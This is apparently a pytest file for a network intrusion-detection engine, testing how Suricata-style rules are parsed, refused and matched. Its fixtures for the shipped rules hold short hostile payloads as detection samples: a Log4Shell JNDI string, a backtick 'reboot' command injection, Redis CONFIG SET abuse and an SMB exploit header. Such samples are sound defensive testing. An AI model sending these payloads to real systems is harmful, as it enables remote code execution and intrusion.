"""The rule language: what is read, what it matches, what is refused, and that nothing takes for ever."""

from __future__ import annotations

import contextlib
from ipaddress import ip_address

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from netwatch.decode.batch import IPV4_MAPPED
from netwatch.detect.rules.build import build
from netwatch.detect.rules.content import content_bytes
from netwatch.detect.rules.expression import MOST_BYTES, expression, translated
from netwatch.detect.rules.inspection import Inspection
from netwatch.detect.rules.limits import Limits
from netwatch.detect.rules.multi_search import _Alternation, _Automaton, _OneByOne, multi_search
from netwatch.detect.rules.pattern_line import pattern_signature
from netwatch.detect.rules.problems import MalformedRule, UnsupportedRule
from netwatch.detect.rules.ranges import addresses, ports
from netwatch.detect.rules.rule_file import OUR_FILES, load_rules
from netwatch.detect.rules.rule_set import RuleSet
from netwatch.detect.rules.search import transformed
from netwatch.detect.rules.signature import Signature, fast_pattern
from netwatch.detect.rules.splitter import rule_lines, split_rule, unquoted
from netwatch.detect.rules.variables import DEFAULTS, variables
from netwatch.errors import UsageError

SECOND = 1_000_000_000


def number(text: str) -> int:
    """Return an address as columns have it."""
    address = ip_address(text)
    return int(address) + (IPV4_MAPPED if address.version == 4 else 0)


def rule(options: str, header: str = "alert tcp any any -> any any") -> Signature:
    """Return the signature of a rule with these options."""
    return build(f"{header} ({options} sid:1;)", DEFAULTS)


def seen(
    data: bytes = b"",
    *,
    protocol: str = "tcp",
    buffers: dict[str, bytes] | None = None,
    source: str = "192.168.0.2",
    destination: str = "93.184.216.34",
    ports: tuple[int, int] = (40000, 80),
    established: bool | None = True,
    to_server: bool | None = True,
    time: float = 0,
    **packet: int,
) -> Inspection:
    """Return an event."""
    return Inspection(
        protocol,
        number(source),
        number(destination),
        *ports,
        int(time * SECOND),
        buffers if buffers is not None else {"pkt_data": data},
        established,
        to_server,
        packet,
    )


def hit(options: str, data: bytes, header: str = "alert tcp any any -> any any", **event: object) -> bool:
    """Return True where a rule matches a payload."""
    found = list(RuleSet([rule(options, header)]).matching(seen(data, **event)))
    return bool(found)


@pytest.mark.parametrize(
    ("options", "data", "expected"),
    [
        ('content:"abc";', b"xxabcxx", True),
        ('content:"abc";', b"xxABCxx", False),
        ('content:"abc"; nocase;', b"xxABCxx", True),
        ('content:"a|62 63|d";', b"abcd", True),
        ('content:"|0d 0a 0D0A|";', b"x\r\n\r\n", True),
        ('content:"a\\;b\\"c\\:d\\\\e";', b'a;b"c:d\\e', True),
        ('content:"a;b";', b"a;b", True),
        ('content:!"abc"; content:"x";', b"xyz", True),
        ('content:!"abc"; content:"x";', b"xabc", False),
        ('content:"abc"; depth:3;', b"abcx", True),
        ('content:"abc"; depth:3;', b"xabc", False),
        ('content:"abc"; offset:1;', b"abc", False),
        ('content:"abc"; offset:1; depth:3;', b"xabc", True),
        ('content:"abc"; offset:1; depth:3;', b"xxabc", False),
        ('content:"abc"; content:"def"; distance:1;', b"abcxdef", True),
        ('content:"abc"; content:"def"; distance:1;', b"abcdef", False),
        ('content:"abc"; content:"def"; within:3;', b"abcdef", True),
        ('content:"abc"; content:"def"; within:3;', b"abcxdef", False),
        ('content:"abc"; content:"def"; distance:2; within:3;', b"abcxxdef", True),
        ('content:"abc"; content:"def"; distance:2; within:3;', b"abcxxxdef", False),
        ('content:"def"; content:"abc"; distance:-6; within:3;', b"abcdef", True),
        ('content:"abc"; content:!"def"; distance:0; within:10;', b"abcxxdef", False),
        ('content:"abc"; content:!"def"; distance:0; within:4;', b"abcxxdef", True),
        ('content:"ab"; content:"cd"; within:2; content:"ef"; within:2;', b"ababcdxabcdef", True),
        ('content:"a"; content:"bcd"; within:3;', b"a a abcd", True),
        ('content:"abc"; startswith;', b"abcx", True),
        ('content:"abc"; startswith;', b"xabc", False),
        ('content:"abc"; endswith;', b"xabc", True),
        ('content:"abc"; endswith;', b"abcabcx", False),
        ('content:"abc"; startswith; endswith;', b"abc", True),
        ('content:"abc"; startswith; endswith;', b"abcabc", False),
        ('content:"ab"; content:"abc"; fast_pattern; content:"x"; fast_pattern:0,1;', b"abcx", True),
        ('content:"abc"; isdataat:1,relative;', b"abcd", True),
        ('content:"abc"; isdataat:1,relative;', b"abc", False),
        ('content:"abc"; isdataat:!1,relative;', b"abc", True),
        ('content:"abc"; isdataat:3;', b"abcd", True),
        ('content:"abc"; isdataat:3;', b"abc", False),
        ('pcre:"/a\\d+b/";', b"xa12bx", True),
        ('pcre:"/A\\d+B/i";', b"xa12bx", True),
        ('pcre:!"/a\\d+b/"; content:"xab";', b"xab", True),
        ('content:"abc"; pcre:"/^\\d{3}$/R";', b"abc123", True),
        ('content:"abc"; pcre:"/^\\d{3}$/R";', b"123abc", False),
        ('content:"abc"; pcre:"/^\\d/R"; content:"x"; distance:0;', b"abcx abc1x", True),
        ('pcre:"/\\x61[[:digit:]]{2}\\x2f/";', b"a12/", True),
        ('pcre:"/(?P<q>[\'\\x22])x(?P=q)/";', b"'x'", True),
        ('bsize:3; content:"abc";', b"abc", True),
        ('bsize:<3; content:"abc";', b"abc", False),
        ('bsize:2<>5; content:"abc";', b"abc", True),
    ],
)
def test_where_a_content_stands(options: str, data: bytes, expected: bool) -> None:
    """Every modifier means what the Suricata user guide says."""
    assert hit(options, data) is expected


@pytest.mark.parametrize(
    ("header", "event", "expected"),
    [
        ("alert tcp any any -> any 80", {}, True),
        ("alert tcp any any -> any !80", {}, False),
        ("alert tcp any any -> any [80,443]", {}, True),
        ("alert tcp any any -> any [1:79,81:]", {}, False),
        ("alert tcp any 1024: -> any :1023", {}, True),
        ("alert tcp any any -> any $HTTP_PORTS", {}, True),
        ("alert tcp $HOME_NET any -> $EXTERNAL_NET any", {}, True),
        ("alert tcp 10.0.0.0/8 any -> any any", {}, False),
        ("alert tcp [192.168.0.0/16,!192.168.0.2] any -> any any", {}, False),
        ("alert tcp [192.168.0.0/16, !192.168.0.3] any -> any any", {}, True),
        ("alert tcp !$HOME_NET any -> any any", {}, False),
        ("alert tcp ![10.0.0.0/8,[172.16.0.0/12]] any -> any any", {}, True),
        ("alert tcp 93.184.216.34 80 <> 192.168.0.2 any", {}, True),
        ("alert tcp 93.184.216.34 80 -> 192.168.0.2 any", {}, False),
        ("alert ip any any -> any any", {}, True),
        ("alert udp any any -> any any", {}, False),
        ("alert udp any any -> any any", {"protocol": "udp"}, True),
        ("alert tcp 2001:db8::/32 any -> any any", {"source": "2001:db8::1", "destination": "2001:db8::2"}, True),
        ("alert tcp any any -> 10.0.0.1 any", {"destination": "::ffff:10.0.0.1"}, True),
    ],
)
def test_headers(header: str, event: dict[str, object], expected: bool) -> None:
    """Lists, negation, ranges, variables and both directions."""
    assert hit('content:"abc";', b"abc", header, **event) is expected


@pytest.mark.parametrize(
    ("options", "event", "expected"),
    [
        ("flow:established,to_server;", {}, True),
        ("flow:established,to_client;", {}, False),
        ("flow:from_server;", {"to_server": False}, True),
        ("flow:established;", {"established": False}, False),
        ("flow:not_established;", {"established": False}, True),
        ("flow:to_server;", {"to_server": None}, False),
        ("flow:stateless;", {"to_server": None}, True),
        ("dsize:3;", {"dsize": 3}, True),
        ("dsize:>3;", {"dsize": 3}, False),
        ("dsize:1<>4;", {"dsize": 3}, True),
        ("dsize:3;", {}, False),
        ("ttl:<5;", {"ttl": 3}, True),
        ("flags:S;", {"flags": 2}, True),
        ("flags:S;", {"flags": 18}, False),
        ("flags:S+;", {"flags": 18}, True),
        ("flags:*SA;", {"flags": 16}, True),
        ("flags:!A;", {"flags": 16}, False),
        ("flags:S,12;", {"flags": 2 | 64 | 128}, True),
        ("flags:0;", {"flags": 0}, True),
    ],
)
def test_flow_and_fields_of_packets(options: str, event: dict[str, int], expected: bool) -> None:
    """Conditions besides contents."""
    assert hit(f'content:"abc"; {options}', b"abc", **event) is expected


def test_icmp_types() -> None:
    """ICMP has no ports; ranges of its types include their ends."""
    icmp = RuleSet(
        [
            rule("itype:8; icode:0;", "alert icmp any any -> any any"),
            rule("itype:8<>13;", "alert ip any any -> any any"),
        ]
    )
    found = list(icmp.matching(seen(protocol="icmp", itype=8, icode=0, ports=(0, 0))))
    assert [each.protocol for each in found] == ["icmp", "ip"]
    assert not list(icmp.matching(seen(protocol="icmp", itype=0, icode=0)))


REQUEST = {
    "http.method": b"GET",
    "http.uri": b"/a/b.php?id=1",
    "http.uri.raw": b"/a/b.php?id=1",
    "http.host": b"www.example.com",
    "http.user_agent": b"Mozilla/5.0",
    "http.header": b"Host: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
    "http.request_body": b"",
}


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ('http.method; content:"GET"; http.uri; content:".php?id="; fast_pattern;', True),
        ('http.method; content:"POST"; http.uri; content:".php?id=";', False),
        (
            'http.uri; content:"/a/"; startswith; content:"id="; distance:0; http.host; content:"example.com";',
            True,
        ),
        ('content:"GET"; http_method; content:".php"; http_uri; nocase; content:"Mozilla"; http_user_agent;', True),
        ('content:"/a/"; http_uri; depth:3; content:"b"; http_uri; distance:0; within:1;', True),
        ('http.uri; pcre:"/\\.php\\?id=\\d+$/";', True),
        ('content:".php"; http_uri; pcre:"/^\\?id=\\d/RU";', True),
        ('http.host; dotprefix; content:".example.com"; endswith;', True),
        ('http.uri; urilen:13; content:"/a";', True),
        ('http.uri; urilen:>20; content:"/a";', False),
        ('http.user_agent; bsize:11; content:"Mozilla/5.0";', True),
        ('http.header; content:"Host|3a 20|"; content:!"Referer";', True),
        ('http.uri; to_lowercase; content:"/a/b.php";', True),
        ('http.uri; content:"/a"; flow:established,to_server;', True),
    ],
)
def test_buffers_of_requests(options: str, expected: bool) -> None:
    """Sticky buffers, and words behind a content that do the same."""
    rules = RuleSet([rule(options, "alert http any any -> any any")])
    event = seen(protocol="http", buffers=REQUEST)
    assert bool(list(rules.matching(event))) is expected


def test_responses_are_asked_when_they_are_there() -> None:
    """A rule about a response waits for it, and is told once."""
    rules = RuleSet(
        [
            rule('http.stat_code; content:"200"; http.uri; content:"/a";', "alert http any any -> any any"),
            rule('http.uri; content:"/a";', "alert http any any -> any any"),
        ]
    )
    request = seen(protocol="http", buffers=REQUEST)
    response = seen(protocol="http", buffers=REQUEST | {"http.stat_code": b"200"}, to_server=False)
    assert [len(list(rules.matching(event))) for event in (request, response)] == [1, 1]


def test_names_of_dns_and_tls() -> None:
    """The rules that lists of bad domains are made of."""
    rules = RuleSet(
        [
            rule('dns.query; dotprefix; content:".evil.example"; nocase; endswith;', "alert dns any any -> any any"),
            rule('dns_query; content:"evil"; nocase; bsize:12;', "alert dns any any -> any any"),
            rule('tls.sni; content:"evil.example"; startswith; endswith;', "alert tls any any -> any any"),
        ]
    )

    def count(protocol: str, buffer: str, name: bytes) -> int:
        return len(list(rules.matching(seen(protocol=protocol, buffers={buffer: name}))))

    assert count("dns", "dns.query", b"EVIL.example") == 2
    assert count("dns", "dns.query", b"a.evil.example") == 1
    assert count("dns", "dns.query", b"notevil.example") == 0
    assert count("tls", "tls.sni", b"evil.example") == 1
    assert count("tls", "tls.sni", b"x.evil.example") == 0


@pytest.mark.parametrize(
    ("limit", "times", "told"),
    [
        ("threshold:type limit, track by_src, count 1, seconds 60;", (0, 1, 59, 61), [True, False, False, True]),
        ("threshold:type threshold, track by_src, count 3, seconds 60;", (0, 1, 2, 3, 4, 5), [False, False, True] * 2),
        ("threshold:type both, track by_dst, count 2, seconds 10;", (0, 1, 2, 20), [False, True, False, False]),
        ("detection_filter:track by_rule, count 2, seconds 10;", (0, 1, 2, 3), [False, False, True, True]),
    ],
)
def test_thresholds(limit: str, times: tuple[int, ...], told: list[bool]) -> None:
    """Counted in packet time, by source, destination or rule."""
    signature, limits = rule(f'content:"abc"; {limit}'), Limits()
    assert [limits.allow(signature, seen(b"abc", time=time)) for time in times] == told


def test_thresholds_are_bounded() -> None:
    """A flood of sources evicts the oldest counts."""
    signature = rule('content:"abc"; threshold:type limit, track by_src, count 1, seconds 60;')
    limits = Limits(10)
    for last in range(1, 40):
        limits.allow(signature, seen(b"abc", source=f"10.0.0.{last}"))
    assert (len(limits), limits.evicted) == (10, 29)


def test_what_a_rule_says_of_itself() -> None:
    """Message, class, priority, references and techniques reach the alert."""
    signature = build(
        r'alert http any any -> any any (msg:"A \"B\"\; C"; http.uri; content:"/x"; reference:cve,2021-1; '
        "classtype:web-application-attack; metadata:created_at 2024, mitre_technique_id T1190; sid:7; rev:3;)",
        DEFAULTS,
    )
    assert (signature.message, signature.number, signature.revision, signature.priority) == ('A "B"; C', 7, 3, 1)
    assert (signature.references, signature.techniques()) == (("cve,2021-1",), ("T1190",))
    assert rule('content:"x"; priority:2; classtype:trojan-activity;').priority == 2
    assert rule('content:"x";').priority == 3


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ('alert tcp any any -> any any (content:"x"; flowbits:set,a; sid:1;)', "option flowbits"),
        ('alert tcp any any -> any any (content:"x"; byte_test:1,>,2,0; sid:1;)', "option byte_test"),
        ('alert smb any any -> any any (content:"x"; sid:1;)', "protocol smb"),
        ('alert http any any -> any any (http.cookie; content:"x"; sid:1;)', "http.cookie: cookies are secrets"),
        ('alert http any any -> any any (http.server; content:"x"; sid:1;)', "http.server: of the head of a response"),
        ('alert tls any any -> any any (content:"x"; sid:1;)', "a rule of tls that looks into none"),
        ('alert tls any any -> any any (tls.sni; content:"x"; pkt_data; content:"y"; sid:1;)', "payload together"),
        ('alert http any any -> any any (http.uri; content:"x"; flow:to_client; sid:1;)', "a buffer of the other"),
        ('alert http any any -> any any (http.uri; content:"x"; dsize:3; sid:1;)', "fields of packets together"),
        ('alert tcp any any -> any any (pcre:"/(a+)+b/"; sid:1;)', "pcre with repetitions inside repetitions"),
        ('alert tcp any any -> any any (pcre:"/(?<=a+)b/"; sid:1;)', "pcre looks behind"),
        ('alert tcp any any -> any any (pcre:"/(?R)/"; sid:1;)', "pcre with a group"),
        ('alert tcp any any -> any any (pcre:"/a\\Kb/"; sid:1;)', r"pcre with \K"),
        ('alert tcp any any -> any any (pcre:"/a/G"; sid:1;)', "pcre flag G"),
        ("alert tcp any any -> any any (sid:1;)", "a rule that looks for nothing"),
        ('alert tcp any any -> any any (content:"x"; noalert; sid:1;)', "option noalert"),
        ('pass tcp any any -> any any (content:"x"; sid:1;)', "action pass"),
        ('alert ip any any -> any any (content:"x"; threshold:type both, track by_flow; sid:1;)', "threshold by flow"),
        ('alert tcp any any -> any any (content:"x"; isdataat:var,relative; sid:1;)', "isdataat with a variable"),
    ],
)  # fmt: skip
def test_rules_that_are_not_supported(text: str, reason: str) -> None:
    """They are refused whole, with a reason that many rules share."""
    with pytest.raises(UnsupportedRule) as error:
        build(text, DEFAULTS)
    assert error.value.message.startswith(reason)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "alert",
        "alert tcp any any -> any any",
        'alert tcp any any -> any (content:"x"; sid:1;)',
        'alert tcp any any => any any (content:"x"; sid:1;)',
        'alert tcp any any -> any any (content:"x"; sid:1;',
        'alert tcp any any -> any any (content:"x; sid:1;)',
        'alert tcp any any -> any any (content:"x";)',
        'alert tcp any any -> any any (content:"x"; sid:1;) more',
        'alert tcp any any -> any any (content:""; sid:1;)',
        "alert tcp any any -> any any (content:x; sid:1;)",
        'alert tcp any any -> any any (content:"|4|"; sid:1;)',
        'alert tcp any any -> any any (content:"|41"; sid:1;)',
        "alert tcp any any -> any any (nocase; sid:1;)",
        'alert tcp any any -> any any (content:"abc"; depth:2; sid:1;)',
        'alert tcp any any -> any any (content:"a"; content:"abc"; within:2; sid:1;)',
        'alert tcp any any -> any any (content:"abc"; distance:1; depth:9; sid:1;)',
        'alert tcp any any -> any any (content:"abc"; offset:x; sid:1;)',
        'alert tcp any any -> any any (content:"abc"; offset:99999999; sid:1;)',
        'alert tcp any any -> any any (pcre:"a"; sid:1;)',
        'alert tcp any any -> any any (pcre:"/a\\/"; sid:1;)',
        "alert tcp any any -> any any (flags:Q; sid:1;)",
        'alert tcp any any -> any any (flow:sideways; content:"x"; sid:1;)',
        "alert tcp any any -> any any (dsize:many; sid:1;)",
        "alert tcp any any -> any any (dsize:5<>6; sid:1;)",
        'alert tcp any any -> any any (content:"x"; threshold:type often; sid:1;)',
        'alert tcp $NOBODY any -> any any (content:"x"; sid:1;)',
        'alert tcp 1.2.3 any -> any any (content:"x"; sid:1;)',
        'alert tcp !any any -> any any (content:"x"; sid:1;)',
        'alert tcp [] any -> any any (content:"x"; sid:1;)',
        'alert tcp any 70000 -> any any (content:"x"; sid:1;)',
        'alert tcp any 9:1 -> any any (content:"x"; sid:1;)',
        'alert dns any any -> any any (http.uri; content:"x"; sid:1;)',
        "alert http any any -> any any (http.uri; sid:1;)",
        'alert http any any -> any any (http.uri; content:"x"; dotprefix; sid:1;)',
        'explode tcp any any -> any any (content:"x"; sid:1;)',
    ],
)
def test_rules_that_are_wrong(text: str) -> None:
    """They are told with their line."""
    with pytest.raises(MalformedRule):
        build(text, DEFAULTS)


def test_splitting() -> None:
    """Quotation marks, escapes, comments, joined lines."""
    parts = split_rule(r'alert TCP [1.1.1.1, 2.2.2.2] any <> any [1,2] (msg:"a\;b\"c)"; flow : to_server ; sid:1;)')
    assert (parts.protocol, parts.source, parts.both_ways) == ("tcp", "[1.1.1.1,2.2.2.2]", True)
    assert parts.options == (("msg", r'"a\;b\"c)"'), ("flow", "to_server"), ("sid", "1"))
    assert unquoted(r'"a\;b\"c)"') == 'a;b"c)'
    assert list(rule_lines("# no\n\nalert \\\n  x\n# y\nz \\")) == [(3, "alert   x"), (6, "z")]


def test_variables_of_the_user() -> None:
    """A definition that is neither addresses nor ports is refused at once."""
    chosen = variables(["HOME_NET=[10.0.0.0/8,!10.0.0.1]", "$MINE = [1,2:3]"])
    assert number("10.0.0.2") in addresses("$HOME_NET", chosen)
    assert number("10.0.0.1") not in addresses("$HOME_NET", chosen)
    assert number("10.0.0.1") in addresses("!$HOME_NET", chosen)
    assert 2 in ports("$MINE", chosen)
    for wrong in ("HOME_NET", "HOME_NET=", "A B=1", "X=nothing", "X=$X"):
        with pytest.raises(UsageError):
            variables([wrong])


def test_expressions_have_a_price() -> None:
    """The more repetitions have to be guessed, the shorter the buffer in which an expression is searched for."""
    longest = [expression(f'"/{text}/"')[0].longest for text in ("^abc", "abc", "a[^b]*b", "a.*b", "a.*b.*c")]
    assert longest == sorted(longest, reverse=True)
    assert longest[0] == MOST_BYTES
    assert longest[-1] < 1000
    rules = RuleSet([rule('pcre:"/a.*b.*c.*d/s";')])
    assert not list(rules.matching(seen(b"a" * 4096)))
    assert rules.gave_up == 1


def test_python_reads_the_same() -> None:
    """What both write differently is translated."""
    assert translated(r"\x{41}[[:alpha:]]a{,2}\h(?<n>x)(?#note)\z") == rb"\x41[a-zA-Z]a\{,2}[ \t](?P<n>x)\Z"


def test_fast_patterns() -> None:
    """The marked one, else the longest; none that is negated or short."""
    assert fast_pattern(rule('content:"abc"; content:"abcd"; content:!"abcdefgh";')) == ("pkt_data", (), b"abcd")
    assert fast_pattern(rule('content:"ABC"; fast_pattern; content:"abcd";')) == ("pkt_data", (), b"abc")
    assert fast_pattern(rule('content:"ab";')) is None


PATTERNS = [b"abc", b"bcd", b"abcd", b"xyz", b"c", b"cabc"]


@pytest.mark.parametrize("kind", [multi_search, _OneByOne, _Alternation])
def test_searching_for_many_patterns(kind: type) -> None:
    """With the library or without it the same is found, overlapping patterns included."""
    data = b"zabcdcabcxyabc"
    expected = {
        (index, at) for index, each in enumerate(PATTERNS) for at in range(len(data)) if data.startswith(each, at)
    }
    assert set(kind(PATTERNS).find(data)) == expected


def test_the_library_is_used_where_it_is_installed() -> None:
    """And only for more than one pattern."""
    pytest.importorskip("ahocorasick_rs")
    assert isinstance(multi_search(PATTERNS), _Automaton)
    assert isinstance(multi_search(PATTERNS[:1]), _OneByOne)


def test_transforms() -> None:
    """What is done to a buffer before it is searched."""
    assert transformed(b"A b\tc", ("strip_whitespace", "to_lowercase", "dotprefix")) == b".abc"
    assert transformed(b"a  b", ("compress_whitespace", "to_uppercase")) == b"A B"
    assert transformed(b"", ("to_md5",)).hex() == "d41d8cd98f00b204e9800998ecf8427e"


def test_files_of_rules(tmp_path: pytest.TempPathFactory) -> None:
    """What cannot be used is counted by reason or told by line; the newest revision of a rule wins."""
    path = tmp_path / "some.rules"
    path.write_text(
        '# alert tcp any any -> any any (content:"off"; sid:9;)\n'
        'alert tcp any any -> any any (content:"old"; sid:1; rev:1;)\n'
        'alert tcp any any -> any any (content:"new"; sid:1; rev:2;)\n'
        'alert tcp any any -> any any (content:"x"; flowbits:isset,a; sid:2;)\n'
        "alert tcp any any (sid:3;)\n"
    )
    loaded = load_rules([path], DEFAULTS)
    assert (loaded.rules, len(loaded.signatures), loaded.replaced) == (4, 1, 1)
    assert dict(loaded.unsupported) == {"option flowbits": 1}
    assert loaded.errors == [f"{path}:5: the header has 4 words instead of 7"]
    assert "new" in loaded.signatures[1, 1].text


def test_lines_of_patterns() -> None:
    """One line is searched for in payloads, targets and bodies of what clients send."""
    made = list(pattern_signature("Evil"))
    assert [each.buffers[0].buffer for each in made] == ["pkt_data", "http.uri", "http.request_body"]
    assert len({each.number for each in made}) == 1
    rules = RuleSet(made)
    assert list(rules.matching(seen(b"..eVIL..")))
    assert not list(rules.matching(seen(b"..evil..", to_server=False)))
    assert list(RuleSet(pattern_signature("resp:evil")).matching(seen(b"EVIL", to_server=False)))
    assert list(RuleSet(pattern_signature("hex:00 ff 41")).matching(seen(b"\x00\xffA")))
    assert not list(RuleSet(pattern_signature("hex:00 ff 41")).matching(seen(b"\x00\xffa")))
    assert list(RuleSet(pattern_signature(r"re:e.{1,3}l\d")).matching(seen(b"EVIL1")))
    only = list(pattern_signature("uri:re:/evil[0-9]"))
    assert [each.buffers[0].buffer for each in only] == ["http.uri"]
    for wrong in ("ab", "hex:0", "hex:zz00", "re:(", "re:(a+)+$"):
        with pytest.raises((MalformedRule, UnsupportedRule)):
            list(pattern_signature(wrong))


def test_our_own_rules_are_whole() -> None:
    """Every rule that ships can be used."""
    loaded = load_rules(OUR_FILES, DEFAULTS)
    assert not loaded.unsupported
    assert not loaded.errors
    assert all(1_901_000 < each.number < 1_902_000 for each in loaded.signatures.values() if each.generator == 1)


@pytest.mark.parametrize(
    ("number", "event"),
    [
        (1901001, seen(b"Microsoft Windows [Version 6.1.7601]\r\nCopyright (c) 2009 Microsoft Corporation.")),
        (1901002, seen(b"uid=0(root) gid=0(root) groups=0(root)\n", to_server=False)),
        (1901004, seen(b"EHLO ${jndi:ldap://a/b}", ports=(40000, 25))),
        (
            1901005,
            seen(b"\0\0\0\x4e\xffSMB\x32\0\0\0\0" + b"\x18" + b"\0" * 51 + b"\x0e\0" + b"\0" * 9, ports=(40000, 445)),
        ),
        (1901007, seen(b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n", ports=(40000, 6379))),
        (1901011, seen(protocol="dns", buffers={"dns.query": b"abc.oast.fun"})),
        (
            1901013,
            seen(
                protocol="http",
                buffers={
                    "http.method": b"POST",
                    "http.uri": b"/76N1Lm.php?n=x4tk7t4jo6",
                    "http.request_body": b"o=" + b"6b787638" * 16,
                    "http.header": b"Host: a.example\r\n",
                },
            ),
        ),
        (1901014, seen(b"BAGLIMI?\n", dsize=9)),
        (1901012, seen(b"M-SEARCH * HTTP/1.1\r\nST: uuid:`reboot`", protocol="udp", ports=(40000, 1900))),
    ],
)
def test_our_own_rules_find_what_they_are_for(number: int, event: Inspection) -> None:
    """Each with an example."""
    found = RuleSet(load_rules(OUR_FILES, DEFAULTS).signatures.values()).matching(event)
    assert number in {each.number for each in found}


RULE_TEXT = st.text(st.sampled_from('abc01/|\\";:!()[]{}$,<>-.*+?^ =#RUi'), max_size=40)


@settings(max_examples=80)
@given(
    st.sampled_from(
        ["content", "pcre", "flow", "flags", "threshold", "bsize", "dsize", "isdataat", "http.uri", "within", "msg"]
    ),
    RULE_TEXT,
    st.binary(max_size=200),
)
def test_any_rule_is_read_or_refused(name: str, value: str, data: bytes) -> None:
    """Nothing but a refusal comes out of a bad rule, and a good one can be asked."""
    for text in (f'alert tcp any any -> any any (content:"a"; {name}:"{value}"; sid:1;)',
                 f"alert http any any -> [{value}] any (http.uri; content:\"a\"; {name}:{value}; sid:1;)"):  # fmt: skip
        try:
            signature = build(text, DEFAULTS)
        except (MalformedRule, UnsupportedRule):
            continue
        list(RuleSet([signature]).matching(seen(data, buffers={"pkt_data": b"a" + data, "http.uri": b"a" + data})))


@settings(max_examples=50)
@given(st.text(max_size=200), RULE_TEXT)
def test_any_file_is_read(text: str, line: str) -> None:
    """Lines, patterns, contents and lists of anything."""
    refused = contextlib.suppress(MalformedRule, UnsupportedRule)
    for _, each in rule_lines(text + "\n" + line):
        with refused:
            build(each, DEFAULTS)
    with refused:
        list(pattern_signature(line))
    with refused:
        content_bytes(line)
    for read in (addresses, ports):
        with refused:
            read(line, DEFAULTS)


@pytest.mark.parametrize(
    "options",
    [
        'content:"a"; ' + 'content:"a"; distance:0; ' * 3 + 'content:"b"; distance:0;',
        'content:"a"; pcre:"/a.*b/R"; content:"c"; distance:0;',
        'pcre:"/a*a*a*b/";',
        'pcre:"/[ab]*?[a]*?c/";',
    ],
)
def test_hostile_payloads_cost_little(options: str) -> None:
    """A search that goes back too often gives up."""
    rules = RuleSet([rule(options)])
    assert not list(rules.matching(seen(b"a" * 4096)))


@pytest.mark.parametrize(
    "text", ["any", "80", "!80", "[80,443]", "[1:1024,!22]", "[!80,!443]", "[8000:,![9000:9100]]", ":7"]
)
def test_a_table_of_ports_says_the_same(text: str) -> None:
    """The fast way to ask for all ports is the slow one for each."""
    ranges = ports(text, {})
    assert ranges.table(65536).tolist() == [port in ranges for port in range(65536)]
